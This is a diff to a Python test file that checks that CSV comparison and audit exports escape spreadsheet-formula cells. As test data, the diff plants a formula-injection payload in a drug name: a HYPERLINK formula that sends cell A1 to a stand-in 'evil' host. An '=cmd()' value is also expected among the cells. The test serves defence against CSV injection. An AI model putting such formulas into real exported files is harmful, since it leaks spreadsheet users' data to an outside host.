@@ -441,7 +441,8 @@ def test_a_network_error_names_the_fix() -> None:
 
 
 # ------------------------------------------------------------------ defect 10: CSV
-def test_registry_text_is_escaped_in_audit_and_comparison_csvs(tmp_path: Path) -> None:
+def test_registry_text_is_escaped_in_audit_and_comparison_csvs(tmp_path: Path,
+                                                               tiny_tflite_path: Path) -> None:
     from pad_assets.comparison import compare_results
     from pad_assets.csv_safety import escape_cell
 
@@ -459,10 +460,27 @@ def test_registry_text_is_escaped_in_audit_and_comparison_csvs(tmp_path: Path) -
                      "cached": True, "model_signature": "s"})
     report = compare_results({"m": pd.DataFrame(rows)}, dataset="d", n_bootstrap=20)
     report.write(tmp_path / "r")
-    for f in (tmp_path / "r").glob("*.csv"):
+    files = list((tmp_path / "r").glob("*.csv"))
+    # the audit of a dataset whose registry names a drug "=HYPERLINK(...)"
+    from pad_assets.emulator.synthetic import CardAttributes
+    from pad_assets.ops.audit import export_audit
+
+    evil = CardAttributes(drug='=HYPERLINK("http://evil/?"&A1)', quantity=100,
+                          camera="c", sample_id=1)
+    with Emulator(make_config([DatasetSpec("evil2", [66000, 66001])], models=[],
+                              card_overrides={66000: evil})) as e:
+        ds = CachedDataset("evil2", settings=_settings(e, tmp_path / "c"), progress=False)
+        ds.apply_model(PADTensorFlowAdapter(model_path=tiny_tflite_path,
+                                            labels=TINY_DRUG_LABELS))
+        files.append(export_audit(ds, tmp_path / "audit")["csv"])
+        ds.close()
+    seen = []
+    for f in files:
         for row in csv.reader(open(f, encoding="utf-8")):
             for cell in row:
                 assert not cell.startswith(("=", "+", "@")), (f.name, cell)
+                seen += [cell] if "HYPERLINK" in cell or "cmd" in cell else []
+    assert "'=cmd()" in seen and "'" + evil.drug in seen, seen
 
 
 # ------------------------------------------------------------------ defect 11: formats
